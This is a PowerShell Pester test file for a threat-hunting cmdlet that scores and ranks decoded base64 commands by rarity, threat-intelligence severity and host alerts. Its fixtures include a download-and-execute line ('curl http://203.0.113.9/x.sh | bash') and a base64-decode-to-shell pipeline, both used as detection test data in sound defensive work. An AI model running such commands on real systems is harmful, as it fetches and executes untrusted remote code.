BeforeAll {
    Import-Module $env:B64HUNT_MODULE -Force

    $script:T0 = [datetime]::new(2024, 5, 1, 10, 0, 0, [DateTimeKind]::Utc)
    function script:New-Event([string] $Command, [string] $Computer, [int] $Minute = 0, [object[]] $Ti = @()) {
        $e = [B64Hunt.Model.CommandEvent]::new()
        $e.DecodedCommand = $Command
        $e.CommandLine = "echo x | base64 -d | sh"
        $e.Computer = $Computer
        $e.TimeGenerated = $T0.AddMinutes($Minute)
        foreach ($t in $Ti) { $e.TiResults.Add($t) }
        $e
    }
    function script:New-Ti([string] $Ioc, [string] $Severity, [string] $Status = 'Ok', [string] $Provider = 'OTX') {
        [B64Hunt.Model.TiResult]@{ Provider = $Provider; Ioc = $Ioc; IocType = 'ipv4'; Severity = $Severity; Status = $Status }
    }
    function script:New-Alert([string] $Computer, [string] $Name, [string] $Severity, [int] $Minute = 0) {
        [B64Hunt.Model.RelatedAlert]@{ Computer = $Computer; AlertName = $Name; Severity = $Severity; TimeGenerated = $T0.AddMinutes($Minute) }
    }
    $script:Events = @(
        New-Event 'curl http://203.0.113.9/x.sh | bash' 'web1' 30 @(New-Ti '203.0.113.9' 'High')   # 1 + 3 + 3 = 7
        New-Event 'whoami' 'web1' 10                                                                  # (1/2)/2 + (1/2)/2 = 0.5, + web1 alert 3 = 3.5
        New-Event 'whoami' 'web2' 50
        New-Event 'id' 'db1' 70                                                                       # 1 + 0 + 0 = 1
    )
    $script:Alerts = @(
        New-Alert 'web1.contoso.com' 'Suspicious download' 'High' 35
        New-Alert 'web1' 'Suspicious download' 'High' 36
    )
}

Describe 'Measure-B64Score' {
    It 'ranks unique commands by total score' {
        $scores = $Events | Measure-B64Score -Alert $Alerts
        $scores | Should -HaveCount 3
        $scores[0] | Should -BeOfType ([B64Hunt.Model.CommandScore])
        $scores.DecodedCommand | Should -Be @('curl http://203.0.113.9/x.sh | bash', 'whoami', 'id')
        # Not $scores.Rank: that is System.Array's own Rank (its number of dimensions).
        $scores | ForEach-Object Rank | Should -Be @(1, 2, 3)
        $scores.TotalScore | Should -Be @(7, 3.5, 1)
        $scores[1].CommandCount | Should -Be 2
        $scores[1].TotalHosts | Should -Be 2
        $scores[1].FreqScore | Should -Be 0.5
        $scores[0].Alerts | Should -HaveCount 2
    }

    It 'takes alerts from the same pipeline as from -Alert' {
        $viaPipeline = @($Events) + @($Alerts) | Measure-B64Score
        $viaPipeline.TotalScore | Should -Be @(7, 3.5, 1)
    }

    It 'supports the one-liners: the top N and a cut-off' {
        ($Events | Measure-B64Score -Alert $Alerts | Select-Object -First 1).DecodedCommand | Should -Be 'curl http://203.0.113.9/x.sh | bash'
        $Events | Measure-B64Score -Alert $Alerts | Where-Object TotalScore -ge 3 | ForEach-Object Rank | Should -Be @(1, 2)
    }

    It 'overrides weights from a hashtable' {
        $scores = $Events | Measure-B64Score -Alert $Alerts -Weight @{ high = 10; AlertHigh = '0.5' }
        # curl: 1 + 10 + 0.5; whoami: 0.5 + 0 + 0.5; id: 1
        $scores.TotalScore | Should -Be @(11.5, 1, 1)
        # whoami and id tie at 1: id is rarer (FreqScore 1 > 0.5) so it ranks first.
        $scores.DecodedCommand[1] | Should -Be 'id'
    }

    It 'rejects an unknown or bad weight with a stable error id' {
        { $Events | Measure-B64Score -Weight @{ Critical = 5 } -ErrorAction Stop } |
            Should -Throw -ErrorId 'UnknownScoreWeight,B64Hunt.Commands.MeasureB64ScoreCommand'
        { $Events | Measure-B64Score -Weight @{ High = 'lots' } -ErrorAction Stop } |
            Should -Throw -ErrorId 'InvalidScoreWeight,B64Hunt.Commands.MeasureB64ScoreCommand'
    }

    It 'scores CommandScores again from their events' {
        $first = $Events | Measure-B64Score -Alert $Alerts
        $again = $first | Measure-B64Score -Weight @{ High = 0 }
        # curl 1 + 0 + 0 and id 1 tie on total and rarity: curl (10:30) was seen before id (11:10). whoami 0.5 last.
        $again.TotalScore | Should -Be @(1, 1, 0.5) -Because 'no alerts this time and TI high weighs 0'
        $again.DecodedCommand | Should -Be @('curl http://203.0.113.9/x.sh | bash', 'id', 'whoami')
    }

    It 'reports bad items without stopping' {
        $bad = New-Event 'ls' 'web1'
        $bad.EventCount = 0
        $scores = @($bad, 42, 'uname -a') | Measure-B64Score -ErrorVariable problems -ErrorAction SilentlyContinue
        $scores | Should -HaveCount 2
        $problems.FullyQualifiedErrorId | Should -Contain 'InvalidEventCount,B64Hunt.Commands.MeasureB64ScoreCommand'
        $problems.FullyQualifiedErrorId | Should -Contain 'UnsupportedInputObject,B64Hunt.Commands.MeasureB64ScoreCommand'
        ($problems | Where-Object { $_.FullyQualifiedErrorId -like 'InvalidEventCount*' }).TargetObject | Should -Be $bad
    }

    It 'warns about alerts it cannot attribute' {
        $null = $Events | Measure-B64Score -Alert ([B64Hunt.Model.RelatedAlert]@{ AlertName = 'Nowhere'; Severity = 'High' }) -WarningVariable warnings -WarningAction SilentlyContinue
        $warnings | Should -HaveCount 1
        "$warnings" | Should -Match 'Nowhere'
    }

    It 'has help with examples and every parameter described' {
        $help = Get-Help Measure-B64Score -Full
        $help.Synopsis | Should -Match 'rank'
        @($help.Examples.Example).Count | Should -BeGreaterOrEqual 2
        foreach ($name in 'InputObject', 'Alert', 'Weight') {
            ($help.Parameters.Parameter | Where-Object Name -eq $name).Description.Text | Should -Not -BeNullOrEmpty
        }
    }
}
